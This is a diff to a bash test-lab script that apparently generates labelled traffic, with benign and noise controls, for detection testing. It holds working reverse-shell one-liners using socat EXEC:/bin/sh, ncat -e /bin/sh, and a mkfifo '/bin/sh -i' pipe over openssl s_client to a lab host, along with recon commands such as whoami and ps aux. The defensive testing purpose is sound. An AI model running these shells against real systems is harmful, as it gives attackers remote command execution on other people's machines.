@@ -8,7 +8,7 @@
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-car}
 all=(socket_upload socket_upload_plain socket_words socket_shell socket_cards benign_sockets
-    tls13_socat tls13_ncat tls13_openssl tls13_socat_443 benign_tls13 sshuttle mqtt_file mqtt_words mqtt_shell benign_mqtt noise_wg noise_53 noise_stun)
+    tls13_shell tls13_shell_openssl tls13_socat tls13_socat_443 benign_tls13 sshuttle mqtt_file mqtt_words mqtt_shell benign_mqtt noise_wg noise_53 noise_stun)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 far=203.0.113.24
@@ -62,8 +62,6 @@ benign_sockets() {
 # shellcheck disable=SC2016 # for the shell at the far end
 commands='for c in id whoami "uname -a" pwd "ls -l /" "cat /etc/hostname" "ps aux" "ls -la /var" "df" "w"; do echo "$c"; sleep 1.3; done'
 tls13_socat() { # a shell within TLS 1.3
-    bg socat "${srv[@]}" socat -u "SYSTEM:$commands" "OPENSSL-LISTEN:6606,bind=$far,reuseaddr,cert=$dir/tls.pem,verify=0"
-    sleep 0.5
     bg socat "${srv[@]}" sh -c "($commands) | socat - OPENSSL-LISTEN:6607,bind=$far,reuseaddr,cert=$dir/tls.pem,verify=0"
     sleep 0.5
     "${cli[@]}" timeout 20 socat "OPENSSL:$far:6607,verify=0" EXEC:/bin/sh || true
@@ -73,12 +71,12 @@ tls13_socat_443() { # the same on the port of the web
     sleep 0.5
     "${cli[@]}" timeout 20 socat "OPENSSL:$far:443,verify=0" EXEC:/bin/sh,pty,stderr,setsid || true
 }
-tls13_ncat() {
+tls13_shell() { # a shell that ncat has brought to somebody within TLS 1.3
     bg ncat "${srv[@]}" sh -c "($commands) | ncat --ssl -n -l $far 7443"
     sleep 0.7
     "${cli[@]}" timeout 20 ncat --ssl -n $far 7443 -e /bin/sh || true
 }
-tls13_openssl() { # /bin/sh -i between a pipe and s_client
+tls13_shell_openssl() { # /bin/sh -i between a pipe and s_client
     bg sserver "${srv[@]}" sh -c "(sleep 1; $commands) | openssl s_server -quiet -accept $far:8443 -cert $dir/tls.crt -key $dir/tls.key"
     sleep 0.7
     "${cli[@]}" sh -c "mkfifo $dir/s; /bin/sh -i <$dir/s 2>&1 | timeout 18 openssl s_client -quiet -connect $far:8443 >$dir/s" || true
